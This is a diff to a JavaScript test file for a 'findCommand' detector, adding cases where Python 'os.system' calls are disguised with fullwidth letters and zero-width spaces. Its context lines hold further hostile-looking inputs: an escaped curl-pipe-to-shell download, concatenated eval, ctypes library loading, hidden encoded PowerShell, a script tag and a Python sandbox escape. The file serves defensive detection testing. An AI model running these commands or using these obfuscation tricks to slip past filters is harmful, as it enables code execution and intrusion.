@@ -20,6 +20,8 @@ describe('findCommand', () => {
     ["getattr(__builtins__, 'ev' + 'al')('1')", 'Python that reaches a name by its parts'],
     ["ctypes.CDLL('/tmp/x.so')", 'Python that reaches a name by its parts'],
     ['{"note": "\\u0063url http://192.0.2.1/a | sh"}', 'a download that is run'],
+    ['ｉｍｐｏｒｔ ｏｓ; ｏｓ.ｓｙｓｔｅｍ("id")', 'Python that starts a program'],
+    ['im\u200bport os; os.sys\u200btem("id")', 'Python that starts a program'],
     ['powershell -nop -w hidden -enc SQBFAFgA', 'a Windows command'],
     ["<script>alert('x')</script>", 'a script of a web page'],
     ['().__class__.__mro__[1].__subclasses__()', 'Python that walks to builtins'],
